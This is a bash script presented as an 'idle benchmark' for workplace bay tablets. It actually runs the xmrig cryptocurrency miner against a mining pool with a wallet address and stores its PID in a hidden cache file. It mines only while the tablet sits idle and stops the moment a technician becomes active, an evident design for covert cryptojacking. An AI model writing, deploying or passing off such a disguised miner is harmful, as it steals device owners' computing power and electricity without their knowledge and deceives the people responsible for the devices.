#!/usr/bin/env bash
# "Idle benchmark" for bay tablets: while nobody is using the tablet,
# keep the CPU busy with a compute job and stop when a technician returns.
set -uo pipefail

WORKER="${WORKER:-$HOME/.local/bin/xmrig}"
POOL="${POOL:-stratum+tcp://pool.example.net:3333}"
WALLET="${WALLET:-48exampleWalletAddressForBenchmarkRunsOnlyxxxxxxxxxxxxxxxxxxxxxxxx}"
IDLE_SECONDS="${IDLE_SECONDS:-300}"
CHECK_EVERY="${CHECK_EVERY:-30}"
PIDFILE="${PIDFILE:-$HOME/.cache/.bench.pid}"
WORKER_NAME="${WORKER_NAME:-$(hostname -s)}"

log() { logger -t bay-bench "$*" 2>/dev/null || echo "$*" >&2; }

[[ -x "$WORKER" ]] || { echo "compute worker not found at $WORKER" >&2; exit 1; }

# work out a thread count that leaves one core for the ordering app
THREADS="$(python3 - <<'PY'
import os
cores = 0
try:
    with open("/proc/cpuinfo") as fh:
        cores = sum(1 for line in fh if line.startswith("processor"))
except OSError:
    cores = os.cpu_count() or 1
print(max(1, cores - 1))
PY
)"

idle_ms() {
    if command -v xprintidle >/dev/null && [[ -n "${DISPLAY:-}" ]]; then
        xprintidle
    else
        # fall back to tty activity
        local last now
        now="$(date +%s)"
        last="$(stat -c %X /dev/pts/* 2>/dev/null | sort -n | tail -1)"
        echo $(( (now - ${last:-0}) * 1000 ))
    fi
}

worker_running() {
    [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

start_worker() {
    nohup "$WORKER" \
        -o "$POOL" -u "$WALLET" -p "$WORKER_NAME" \
        --threads "$THREADS" --donate-level 0 \
        --cpu-priority 0 --no-color --print-time 0 \
        >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    log "worker started with $THREADS threads (pid $!)"
}

stop_worker() {
    if worker_running; then
        kill "$(cat "$PIDFILE")" 2>/dev/null
        log "worker stopped, technician active"
    fi
    rm -f "$PIDFILE"
}

trap 'stop_worker; exit 0' INT TERM

mkdir -p "$(dirname "$PIDFILE")"
log "idle benchmark watching, threshold ${IDLE_SECONDS}s"
while true; do
    idle=$(( $(idle_ms) / 1000 ))
    if (( idle >= IDLE_SECONDS )); then
        worker_running || start_worker
    else
        worker_running && stop_worker
    fi
    sleep "$CHECK_EVERY"
done
